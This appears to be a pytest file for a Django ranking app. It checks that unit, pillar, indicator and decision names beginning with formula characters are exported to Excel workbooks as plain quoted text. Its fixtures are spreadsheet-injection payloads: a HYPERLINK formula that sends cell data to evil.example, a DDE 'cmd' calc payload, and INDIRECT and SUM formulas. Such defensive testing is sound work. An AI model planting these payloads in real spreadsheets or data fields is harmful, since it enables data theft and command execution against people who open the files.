"""The rankings workbook and the indicator-set workbook with names that start like formulas.

Every text that starts with =, +, -, @, a tab or a carriage return (unit,
pillar, indicator and band names, the decision, its signer, a correction's
reason) comes out of the download as a quoted string: read back with openpyxl
it is the text as typed, and no sheet holds a formula at all.
"""

import io
import zipfile
from datetime import date

import pytest
from django.db.models import QuerySet
from django.urls import reverse
from openpyxl import load_workbook

from assessments.models import AdministrativeUnit, AssessmentState
from dti.spreadsheets import FORMULA_STARTS
from indicators import excel as indicator_excel
from indicators.models import Band, Indicator, Pillar
from rankings import services
from tests.factories import force_state

INJECTED = {
    "Xã A": '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
    "Xã B": "+1+1",
    "Xã C": "-2+3",
    "Xã D": "@SUM(A1:A9)",
    "Xã E": "\t=cmd|' /C calc'!A0",
    "Xã F": "\r=1",
}


def no_formula_anywhere(content: bytes) -> list[str]:
    """Assert that no sheet holds a formula; the formula-like texts found, as read back."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), name
    found = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                # XML reads a carriage return back as a line feed.
                if isinstance(cell.value, str) and cell.value.startswith((*FORMULA_STARTS, "\n")):
                    assert (cell.data_type, cell.quotePrefix) == ("s", True), (
                        sheet.title,
                        cell.coordinate,
                    )
                    found.append(cell.value.replace("\n", "\r"))
    return found


@pytest.mark.django_db
def test_the_rankings_workbook_keeps_formula_like_text_as_text(client, world):
    for old, new in INJECTED.items():
        AdministrativeUnit.objects.filter(name=old).update(name=new)
    # The set is frozen (a campaign uses it): renamed past its guard, as a test set-up.
    pillars = Pillar.objects.filter(indicator_set=world.indicator_set)
    QuerySet.update(pillars.filter(code="1"), name="=1+2")
    QuerySet.update(
        Indicator.objects.filter(pillar__indicator_set=world.indicator_set, code="1.1"),
        name="@INDIRECT(A1)",
    )
    QuerySet.update(Band.objects.filter(indicator_set=world.indicator_set), name="-Kém")
    for assessment in world.assessments.values():
        force_state(assessment, AssessmentState.APPRAISED_2)
    decision = {
        "decision_number": "=2675/QĐ-UBND",
        "decision_date": date(2025, 11, 28),
        "signer_title": "+KT. CHỦ TỊCH",
        "signer_name": "@Nguyễn Văn An",
    }
    organizer = world.campaign.created_by
    services.campaign_publish(campaign=world.campaign, user=organizer, **decision)
    force_state(world.assessments["Xã E"], AssessmentState.APPRAISED_2)
    services.campaign_publish(
        campaign=world.campaign, user=organizer, reason="-Sửa lỗi đánh máy", **decision
    )
    response = client.get(reverse("rankings:results_workbook", args=[world.campaign.pk]))
    assert response.status_code == 200
    found = no_formula_anywhere(response.content)
    for text in [*INJECTED.values(), "@INDIRECT(A1)", "=2675/QĐ-UBND", "-Sửa lỗi đánh máy"]:
        assert any(value.startswith(text) for value in found), text


@pytest.mark.django_db
def test_the_indicator_set_workbook_keeps_formula_like_text_as_text(admin_client, world):
    indicator_set = world.indicator_set
    QuerySet.update(
        Indicator.objects.filter(pillar__indicator_set=indicator_set, code="1.1"),
        name='=HYPERLINK("http://evil.example")',
        guidance="+cmd",
        evidence_required="-1",
        data_source="@x",
        verifier="\t=1",
    )
    QuerySet.update(Pillar.objects.filter(indicator_set=indicator_set, code="1"), name="\r=2")
    response = admin_client.post(
        reverse("admin:indicators_indicatorset_changelist"),
        {"action": "export_to_excel", "_selected_action": [indicator_set.pk]},
    )
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    found = no_formula_anywhere(content)
    for text in ['=HYPERLINK("http://evil.example")', "+cmd", "-1", "@x", "\t=1", "\r=2"]:
        assert text in found, text
    # And the exported set reads back with the same texts.
    sheet = load_workbook(io.BytesIO(content))[indicator_excel.INDICATOR_SHEET]
    names = [row[6] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert '=HYPERLINK("http://evil.example")' in names
